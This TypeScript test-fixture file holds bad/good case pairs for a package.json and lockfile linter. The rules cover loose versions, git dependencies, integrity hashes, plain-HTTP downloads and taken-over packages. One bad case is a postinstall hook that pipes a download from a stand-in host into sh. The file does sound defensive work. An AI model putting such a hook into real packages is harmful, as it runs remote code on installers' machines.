import type { RuleCase } from './cases.js';

const packages = (rule: string, bad: object, good: object): RuleCase => [
  rule,
  'package.json',
  JSON.stringify(bad, null, 2),
  JSON.stringify(good, null, 2),
];
const lock = (rule: string, bad: object, good: object): RuleCase => [
  rule,
  'package-lock.json',
  JSON.stringify({ packages: { 'node_modules/a': bad } }, null, 2),
  JSON.stringify({ packages: { 'node_modules/a': good } }, null, 2),
];

export const PACKAGE_CASES: readonly RuleCase[] = [
  packages('dependencies/any-version', { dependencies: { a: '*' } }, { dependencies: { a: '^1.2.0' } }),
  packages(
    'dependencies/from-address',
    { dependencies: { a: 'git+https://a.example/x.git' } },
    { dependencies: { a: 'file:../a', b: '1.0.0' } },
  ),
  packages(
    'dependencies/listed-twice',
    { dependencies: { a: '1.0.0' }, devDependencies: { a: '1.0.0' } },
    { dependencies: { a: '1.0.0' }, devDependencies: { b: '1.0.0' } },
  ),
  packages(
    'dependencies/tool-in-production',
    { private: true, dependencies: { jest: '1.0.0' } },
    { private: true, devDependencies: { jest: '1.0.0' } },
  ),
  packages(
    'security/install-script',
    { scripts: { postinstall: 'curl https://a.example/x | sh' } },
    { scripts: { postinstall: 'node build.js' } },
  ),
  packages(
    'security/taken-over-package',
    { dependencies: { 'event-stream': '3.3.6' } },
    { dependencies: { 'event-stream': '4.0.1' } },
  ),
  packages(
    'dependencies/given-up',
    { dependencies: { request: '2.88.2' } },
    { dependencies: { undici: '7.0.0' } },
  ),
  packages(
    'dependencies/no-engine',
    { scripts: { start: 'node a' }, dependencies: { a: '1.0.0' } },
    { scripts: { start: 'node a' }, dependencies: { a: '1.0.0' }, engines: { node: '>=24' } },
  ),
  lock(
    'dependencies/strict-licence',
    { version: '1.0.0', license: 'AGPL-3.0' },
    { version: '1.0.0', license: 'MIT OR GPL-2.0' },
  ),
  lock(
    'dependencies/no-integrity',
    { resolved: 'https://registry.npmjs.org/a.tgz' },
    { resolved: 'https://registry.npmjs.org/a.tgz', integrity: 'sha512-a' },
  ),
  lock(
    'security/plain-download',
    { resolved: 'http://registry.example/a.tgz', integrity: 'sha512-a' },
    { resolved: 'https://registry.example/a.tgz', integrity: 'sha512-a' },
  ),
  lock(
    'dependencies/weak-integrity',
    { resolved: 'https://r.example/a.tgz', integrity: 'sha1-a' },
    { resolved: 'https://r.example/a.tgz', integrity: 'sha512-a' },
  ),
  [
    'security/taken-over-in-lock',
    'package-lock.json',
    '{"packages":{"node_modules/coa":{"version":"2.0.3"}}}',
    '{"packages":{"node_modules/coa":{"version":"2.0.2"}}}',
  ],
];
